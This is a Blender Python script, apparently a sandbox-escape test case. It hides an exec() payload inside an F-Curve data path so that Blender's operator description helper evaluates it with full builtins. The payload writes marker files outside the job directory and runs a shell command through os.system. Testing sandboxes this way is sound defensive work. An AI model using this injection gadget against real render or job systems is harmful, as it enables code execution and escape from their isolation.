# mode: full
# result: any
# tries: the eval gadget, then writes outside the job dir and a shell command
import bpy

carrier = bpy.data.objects.new("carrier", None)
bpy.context.scene.collection.objects.link(carrier)
action = bpy.data.actions.new("a")
carrier.animation_data_create().action = action
payload = """
import os
out = []
for path in ['@TARGET_DIR@/gadget-pwned', '/tmp/pwned-gadget', '@REPO@/pwned-gadget']:
    try:
        open(path, 'w').write('pwned')
        out.append('wrote ' + path)
    except OSError as exc:
        out.append('denied ' + repr(exc)[:60])
out.append('system %r' % os.system('touch @TARGET_DIR@/gadget-shell'))
base['loot'] = ' | '.join(out)
"""
# Blender's own operator helper evaluates "context." + the F-Curve's data path with full builtins
# (one line: newlines travel as two tabs)
expression = "name if exec(data_path.rsplit('#', 1)[1].replace(chr(9) * 2, chr(10)), {'base': context}) else 0 #"
curve = action.fcurve_ensure_for_datablock(carrier, expression + payload.replace(chr(10), chr(9) * 2))
try:
    bpy.types.WM_OT_context_cycle_enum.description(carrier, curve)
except NameError:
    pass
print("LOOT", carrier.get("loot"))
cam = bpy.data.objects.new("camera", bpy.data.cameras.new("camera"))
bpy.context.scene.collection.objects.link(cam)
bpy.context.scene.camera = cam
